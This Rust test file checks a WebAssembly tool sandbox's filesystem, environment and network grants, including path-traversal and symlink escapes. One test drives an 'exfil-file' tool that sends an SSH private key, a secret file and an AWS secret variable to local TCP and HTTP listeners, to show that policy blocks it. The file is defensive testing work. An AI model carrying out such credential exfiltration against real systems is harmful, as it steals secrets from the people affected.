//! Filesystem grants of WebAssembly tools, judged by what is read and what is on disk.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;
use std::fs;
use support::*;

struct Tree {
    _dir: tempfile::TempDir,
    granted: std::path::PathBuf,
    secret: std::path::PathBuf,
}

fn tree() -> Tree {
    let dir = tempfile::tempdir().unwrap();
    let root = fs::canonicalize(dir.path()).unwrap();
    let granted = root.join("granted");
    fs::create_dir(&granted).unwrap();
    fs::write(granted.join("note.txt"), "public note").unwrap();
    let secret = root.join("secret.txt");
    fs::write(&secret, "TOP-SECRET").unwrap();
    Tree { _dir: dir, granted, secret }
}

#[test]
fn reads_only_what_is_granted_at_the_same_path() {
    let t = tree();
    let reader = tool("read-file");
    let note = t.granted.join("note.txt");
    let r = run(&["run", "--allow-read", s(&t.granted), s(&reader), "--", s(&note)]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.stdout, "public note");

    let r = run(&["run", "--allow-read", s(&t.granted), s(&reader), "--", s(&t.secret)]);
    assert_eq!(r.code, 1);
    assert!(!r.stdout.contains("TOP-SECRET"));
    // Positive control: granted, the same read succeeds.
    let r = run(&["run", "--allow-read", s(&t.secret), s(&reader), "--", s(&t.secret)]);
    assert_eq!((r.code, r.stdout.as_str()), (0, "TOP-SECRET"), "{}", r.stderr);
}

#[test]
fn dot_dot_and_symlinks_do_not_escape_a_grant() {
    let t = tree();
    let reader = tool("read-file");
    // A relative link, so that it resolves inside a grant of the parent (the positive control).
    std::os::unix::fs::symlink("../secret.txt", t.granted.join("link")).unwrap();
    let via_dotdot = format!("{}/../secret.txt", t.granted.display());
    let via_link = t.granted.join("link");
    for path in [via_dotdot.as_str(), s(&via_link)] {
        let r = run(&["run", "--allow-read", s(&t.granted), s(&reader), "--", path]);
        assert_eq!(r.code, 1, "{path}: {}", r.stdout);
        assert!(!r.stdout.contains("TOP-SECRET"), "{path}");
    }
    // Positive control: with the parent granted, both routes read the secret.
    let parent = t.granted.parent().unwrap();
    for path in [via_dotdot.as_str(), s(&via_link)] {
        let r = run(&["run", "--allow-read", s(parent), s(&reader), "--", path]);
        assert_eq!(r.stdout, "TOP-SECRET", "{path}: {}", r.stderr);
    }
}

#[test]
fn read_only_grants_are_really_read_only() {
    let t = tree();
    let writer = tool("write-file");
    let note = t.granted.join("note.txt");
    let new = t.granted.join("new.txt");
    for target in [&note, &new] {
        let r = run(&["run", "--allow-read", s(&t.granted), s(&writer), "--", s(target), "overwritten"]);
        assert_eq!(r.code, 1, "{}", r.stdout);
    }
    assert_eq!(fs::read_to_string(&note).unwrap(), "public note");
    assert!(!new.exists());
    // Positive control: a write grant lets the same writes land on disk.
    for target in [&note, &new] {
        let r = run(&["run", "--allow-write", s(&t.granted), s(&writer), "--", s(target), "overwritten"]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert_eq!(fs::read_to_string(target).unwrap(), "overwritten");
    }
}

#[test]
fn a_single_file_grant_shows_that_file_only() {
    let t = tree();
    let reader = tool("read-file");
    fs::write(t.granted.join("sibling.txt"), "sibling").unwrap();
    let note = t.granted.join("note.txt");
    let sibling = t.granted.join("sibling.txt");
    let r = run(&["run", "--allow-read", s(&note), s(&reader), "--", s(&note)]);
    assert_eq!((r.code, r.stdout.as_str()), (0, "public note"), "{}", r.stderr);
    let r = run(&["run", "--allow-read", s(&note), s(&reader), "--", s(&sibling)]);
    assert_eq!(r.code, 1);
    assert!(!r.stdout.contains("sibling"));
    // Positive control: with the sibling granted (alone), the same read succeeds.
    let r = run(&["run", "--allow-read", s(&sibling), s(&reader), "--", s(&sibling)]);
    assert_eq!((r.code, r.stdout.as_str()), (0, "sibling"), "{}", r.stderr);
    // Reading the file is not writing it.
    let writer = tool("write-file");
    let r = run(&["run", "--allow-read", s(&note), s(&writer), "--", s(&note), "changed"]);
    assert_eq!(r.code, 1);
    assert_eq!(fs::read_to_string(&note).unwrap(), "public note");
    // Nor does a write grant of the sibling cover it. (The tool is told its write succeeded:
    // it lands in the private directory that stages the granted file, not on the host. The
    // disk is the judge.)
    run(&["run", "--allow-write", s(&sibling), s(&writer), "--", s(&note), "changed"]);
    assert_eq!(fs::read_to_string(&note).unwrap(), "public note");
    // Positive control: with the file itself granted for writing, the same write lands.
    let r = run(&["run", "--allow-write", s(&note), s(&writer), "--", s(&note), "changed"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(fs::read_to_string(&note).unwrap(), "changed");
}

#[test]
fn exfil_file_is_blocked_under_its_policy_and_succeeds_with_everything_granted() {
    let t = tree();
    let sink = TcpSink::start("127.0.0.1");
    let web = HttpSink::start(None);
    let exfil = tool("exfil-file");
    let ssh = t.granted.parent().unwrap().join(".ssh");
    fs::create_dir(&ssh).unwrap();
    let key = ssh.join("id_ed25519");
    fs::write(&key, "-----BEGIN OPENSSH PRIVATE KEY----- sk-123").unwrap();
    let (tcp, url) = (sink.addr.to_string(), web.url("/upload"));
    let pol = policy("exfil-file");
    let attack =
        ["--env", "AWS_SECRET_ACCESS_KEY", "--tcp", tcp.as_str(), "--http", url.as_str(), s(&key), s(&t.secret)];

    let mut args = vec!["run", "--policy", s(&pol), s(&exfil), "--"];
    args.extend(attack);
    let blocked = run_with_env(&args, "AWS_SECRET_ACCESS_KEY", "aws-secret-value");
    assert_eq!(blocked.code, 3, "{}", blocked.stderr);
    assert_eq!(sink.connections(), 0, "nothing reaches the listener: {}", sink.received());
    assert!(web.requests().is_empty(), "nothing reaches the web server");
    assert!(blocked.stderr.contains("env AWS_SECRET_ACCESS_KEY: missing"), "env is scrubbed: {}", blocked.stderr);

    // Positive control: everything granted, the secrets arrive.
    let origin = format!("http://{}", web.addr);
    let mut args =
        vec!["run", "--allow-read", s(&ssh), "--allow-read", s(&t.secret), "--allow-env", "AWS_SECRET_ACCESS_KEY"];
    args.extend(["--allow-net", &tcp, "--allow-net", &origin, s(&exfil), "--"]);
    args.extend(attack);
    let open = run_with_env(&args, "AWS_SECRET_ACCESS_KEY", "aws-secret-value");
    assert_eq!(open.code, 0, "{}", open.stderr);
    let got = sink.received();
    assert!(got.contains("sk-123") && got.contains("TOP-SECRET") && got.contains("aws-secret-value"), "{got}");
    assert!(web.requests()[0].contains("aws-secret-value"));
    // The audit log never holds the secret values, even when granted.
    let log = serde_json::to_string(&open.audit).unwrap();
    assert!(!log.contains("aws-secret-value") && !log.contains("sk-123") && !log.contains("TOP-SECRET"));
}

fn run_with_env(args: &[&str], key: &str, value: &str) -> Run {
    // The runtime's own environment holds the secret; only a grant may pass it on.
    support::run_env(args, &[(key, value)])
}

/// A component resolves relative paths from `/` (WASI's libc starts there and never asks the
/// host for a working directory), so a relative argument fails even from a granted directory;
/// one line says so, and its fix (the path granted and passed whole) works when followed.
#[test]
fn a_relative_path_given_to_a_component_is_explained_and_the_fix_works() {
    let t = tree();
    let reader = tool("read-file");
    let from = |args: &[&str]| {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_mcp-sandbox"))
            .arg("run")
            .args(args)
            .current_dir(&t.granted)
            .env("MCP_SANDBOX_CACHE", root().join("target/test-component-cache"))
            .output()
            .unwrap();
        let text = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
        (out.status.code().unwrap_or(-1), text(&out.stdout), text(&out.stderr))
    };
    let (code, out, err) = from(&["--allow-read", s(&t.granted), s(&reader), "--", "note.txt"]);
    assert_eq!((code, out.as_str()), (1, ""), "{err}");
    let hint = err.lines().find(|l| l.contains("is relative to")).unwrap_or_else(|| panic!("no hint: {err}"));
    let whole = t.granted.join("note.txt");
    let fix = format!("--allow-read {0}, and {0} as the argument", whole.display());
    assert!(hint.contains("a WebAssembly component resolves relative paths from /") && hint.ends_with(&fix), "{hint}");
    let (code, out, err) = from(&["--allow-read", s(&whole), s(&reader), "--", s(&whole)]);
    assert_eq!((code, out.as_str()), (0, "public note"), "{err}");
    assert!(!err.contains("is relative to"), "{err}");
}
